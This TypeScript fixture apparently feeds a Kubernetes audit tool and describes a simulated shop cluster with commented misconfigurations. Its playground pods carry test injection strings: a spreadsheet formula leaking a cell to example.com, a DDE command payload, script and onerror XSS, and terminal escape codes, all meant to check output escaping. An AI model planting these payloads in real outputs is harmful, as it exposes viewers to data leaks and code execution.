import { deployment } from './builders.ts';
import { namespace } from './builders-cluster.ts';
import { barePod, staticPod } from './builders-pods.ts';
import { daemonSet } from './builders-sets.ts';
import type { Build } from './cluster.ts';
import { HARDENED, hostPath, mount, mountReadOnly, NON_ROOT, pinned } from './containers.ts';
import { eksAddOns } from './fleet-addons.ts';
import { ecr } from './fleet-images.ts';
import { SHOP_CLUSTER } from './fleet-shop.ts';
import { days, hours, minutes } from './kubernetes.ts';
import { replicas } from './pod-life.ts';

const LINUX_NODES = ['general', 'data', 'legacy'];

/** What the platform team runs for everyone, what partners and guests need, and what somebody forgot. */
export const SHOP_PLATFORM: readonly Build[] = [
  ...eksAddOns(SHOP_CLUSTER, { pools: LINUX_NODES, enforcesNetworkPolicies: true }),

  // A static pod from before the cluster had an internal load balancer; seen through its mirror.
  staticPod('kube-system/haproxy', {
    pool: 'legacy',
    age: days(213),
    containers: [{ name: 'haproxy', image: 'haproxy:2.4.17', security: NON_ROOT, port: 6443 }],
  }),

  namespace('logging', { team: 'platform' }),

  // It keeps its place in the logs in a file on the node, so it mounts the node's disk writable.
  daemonSet('logging/fluent-bit', {
    on: LINUX_NODES,
    age: days(8),
    role: 'shop-fluent-bit',
    containers: [
      {
        name: 'fluent-bit',
        image: 'public.ecr.aws/aws-observability/aws-for-fluent-bit:2.34.0',
        mounts: [mount('varlog', '/var/log'), mountReadOnly('containers', '/var/lib/docker/containers')],
      },
    ],
    volumes: [hostPath('varlog', '/var/log', ''), hostPath('containers', '/var/lib/docker/containers', '')],
  }),

  // It needs the node's network and disk, but only to read.
  daemonSet('logging/node-exporter', {
    on: LINUX_NODES,
    age: days(26),
    hostNetwork: true,
    containers: [
      {
        name: 'node-exporter',
        image: pinned('quay.io/prometheus/node-exporter:v1.9.1'),
        security: HARDENED,
        args: ['--path.rootfs=/host/root', '--path.procfs=/host/proc'],
        mounts: [mountReadOnly('root', '/host/root'), mountReadOnly('proc', '/host/proc')],
      },
    ],
    volumes: [hostPath('root', '/', ''), hostPath('proc', '/proc', '')],
  }),

  // Its node's clock is two minutes ahead: the pod seems to start in the future.
  deployment('logging/grafana', {
    pods: [{ age: -minutes(2) }],
    containers: [
      { name: 'grafana', image: 'docker.io/grafana/grafana:12.1.1', security: NON_ROOT, port: 3000 },
    ],
  }),

  namespace('edge', { team: 'platform' }),

  deployment('edge/ingress-nginx-controller', {
    pods: replicas(3, days(14)),
    containers: [
      {
        name: 'controller',
        image: pinned('registry.k8s.io/ingress-nginx/controller:v1.13.2'),
        security: { ...NON_ROOT, readOnlyRootFilesystem: false, runAsUser: 101 },
        port: 8080,
      },
    ],
  }),

  // Whoever wrote its policy thought of IPv4 only; by luck that denies IPv6.
  deployment('edge/oauth2-proxy', {
    pods: replicas(2, days(20)),
    containers: [
      {
        name: 'oauth2-proxy',
        image: 'quay.io/oauth2-proxy/oauth2-proxy:v7.12.0',
        security: HARDENED,
        port: 4180,
      },
    ],
  }),

  namespace('partners', { team: 'integration' }),

  // FTP with its range of passive ports.
  deployment('partners/edi-ftp', {
    pods: replicas(2, days(16)),
    containers: [{ name: 'edi-ftp', image: ecr('edi-ftp:3.3.1'), security: HARDENED }],
  }),

  deployment('partners/sftp-bridge', {
    pods: replicas(1, days(5)),
    containers: [{ name: 'sftp-bridge', image: ecr('sftp-bridge:1.1.0'), security: HARDENED }],
  }),

  namespace('invoices', { team: 'finance' }),

  deployment('invoices/invoice-renderer', {
    pods: replicas(2, days(5) - minutes(3)),
    pool: 'fargate',
    role: 'shop-invoices',
    containers: [{ name: 'renderer', image: ecr('invoice-renderer:2.0.4'), security: NON_ROOT, port: 8080 }],
  }),

  namespace('intranet', { team: 'workplace' }),

  // Windows has no read-only root filesystem.
  deployment('intranet/iis-portal', {
    pods: replicas(2, days(19)),
    pool: 'windows',
    security: { windowsOptions: { runAsUserName: 'ContainerUser' } },
    containers: [
      {
        name: 'iis',
        image: 'mcr.microsoft.com/windows/servercore/iis:windowsservercore-ltsc2022',
        port: 80,
        memory: '1Gi',
      },
    ],
  }),

  namespace('playground', { team: '' }),

  // "Only for five minutes", 27 days ago.
  barePod('playground/netshoot', {
    life: { age: days(27) },
    containers: [{ name: 'netshoot', image: 'nicolaka/netshoot', command: ['sleep', 'infinity'] }],
  }),

  // What a tester left behind: text that an outlet without escaping would obey. Harmless where escaped.
  barePod('playground/pentest-leftover', {
    life: { age: hours(30) },
    annotations: {
      'example.com/note': '=HYPERLINK("https://example.com/?leak="&A1,"open me")',
      'example.com/owner': '<script>alert("inventory")</script>',
      'example.com/motd': '\u001b[2J\u001b[32mall clear\u001b[0m',
    },
    containers: [
      { name: 'shell', image: 'alpine:3.22', security: NON_ROOT, mounts: [mount('loot', '/loot')] },
    ],
    volumes: [hostPath('loot', '/mnt/<img src=x onerror=alert(1)>\u001b[31m', 'DirectoryOrCreate')],
  }),

  // A template whose value was never filled in. The API server takes any image reference without
  // white space around it; the kubelet then refuses this one.
  deployment('playground/templating-accident', {
    pods: [{ age: hours(5), state: 'invalid-image' }],
    notes: { 'kubernetes.io/change-cause': '=cmd|" /C calc"!A0' },
    containers: [
      {
        name: 'app',
        image:
          '=HYPERLINK("https://example.com/{{ .Values.image }}","<script>alert(1)</script>\u001b[31mcheap\u001b[0m")',
        security: HARDENED,
      },
    ],
  }),
];
